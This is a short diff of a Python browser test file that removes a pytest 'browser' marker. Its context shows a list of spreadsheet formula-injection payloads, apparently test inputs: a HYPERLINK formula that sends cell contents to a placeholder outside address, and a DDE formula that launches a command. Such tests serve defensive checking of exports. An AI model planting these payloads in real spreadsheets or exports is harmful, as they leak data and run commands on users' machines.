@@ -14,8 +14,6 @@ from lit_plugins.serve.factory import create_app
 from tests.browser.page import VIEWPORT, LitPage
 from tests.serving import serve_in_thread
 
-pytestmark = pytest.mark.browser
-
 FORMULAS = [
     '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
     "+1+cmd|' /C calc'!A0",
